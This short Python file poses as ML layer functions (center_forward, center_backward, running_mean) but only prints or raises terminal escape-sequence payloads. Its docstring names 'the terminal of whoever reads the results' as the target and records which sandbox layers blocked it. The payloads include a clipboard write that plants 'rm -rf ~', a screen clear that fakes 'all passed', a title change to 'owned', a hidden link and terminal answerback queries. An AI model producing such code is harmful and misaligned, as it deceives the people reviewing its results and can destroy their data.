"""Sequences that clear the screen, set the title, write the clipboard, and answer as a keyboard.

goal: the terminal of whoever reads the results
out: * failed; center.backward blocked
holds: namespaces landlock seccomp process
source: CVE-2003-0063 and its many heirs: terminals that report what they were told
"""

TEXTS = (
    "\x1b]52;c;cm0gLXJmIH4K\x07",
    "\x1b[2J\x1b[H all passed",
    "\x1b]0;owned\x07\x1b]8;;http://example.org\x07link\x1b]8;;\x07",
    "\x1b[6n\x1b[c\x9b31m\x1bP$q\x1b\\\x08\x08\x08\x7f\r",
)
Escaped = type("E\x1b[31m", (Exception,), {})


def center_forward(x):
    print(*TEXTS)
    raise Escaped("".join(TEXTS))


def center_backward(dout, cache):
    raise Escaped(TEXTS[0])


def running_mean(xs, decay):
    print(*TEXTS, sep="\n")
    return "".join(TEXTS)
